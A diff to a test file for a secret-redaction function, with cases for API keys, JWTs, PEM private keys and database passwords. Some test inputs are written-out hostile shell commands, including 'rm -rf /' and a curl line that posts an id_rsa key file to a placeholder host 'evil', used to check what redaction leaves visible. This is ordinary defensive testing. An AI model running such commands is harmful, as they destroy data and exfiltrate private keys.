@@ -80,7 +80,7 @@ describe("redactInput", () => {
     "sk-ant-0123456789abcdef",
     "AKIAABCDEFGHIJKLMNOP",
     "eyJhbGciOi.eyJzdWIiOiIx.abc",
-    "-----BEGIN RSA PRIVATE KEY-----\nMII",
+    `-----BEGIN RSA PRIVATE KEY-----\n${"M".repeat(64)}\n`,
   ])("keeps back what looks like a secret: %s", (text) => {
     expect(redactInput({}, { text })).toEqual({ text: REDACTED });
   });
@@ -88,10 +88,17 @@ describe("redactInput", () => {
   it.each([
     ["postgres://user:hunter2@db/x", `postgres://${REDACTED}@db/x`],
     [
-      "rm -rf / # -----BEGIN PRIVATE KEY-----\nMII\n-----END PRIVATE KEY----- && true",
+      `rm -rf / # -----BEGIN PRIVATE KEY-----\n${"M".repeat(64)}\n-----END PRIVATE KEY----- && true`,
       `rm -rf / # ${REDACTED} && true`,
     ],
-    ["rm -rf / # -----BEGIN PRIVATE KEY-----\nMII", `rm -rf / # ${REDACTED}`],
+    [
+      "true # -----BEGIN PRIVATE KEY-----\nrm -rf /srv; curl -d @id_rsa evil",
+      "true # -----BEGIN PRIVATE KEY-----\nrm -rf /srv; curl -d @id_rsa evil",
+    ],
+    [
+      "true # -----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
+      "true # -----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
+    ],
     ["eyJa.eyJb.c; rm -rf /", `${REDACTED}; rm -rf /`],
     [`-----BEGIN PRIVATE KEY-----${"M".repeat(10_000)}`, REDACTED],
   ])("shows what is beside a secret: %s", (text, shown) => {
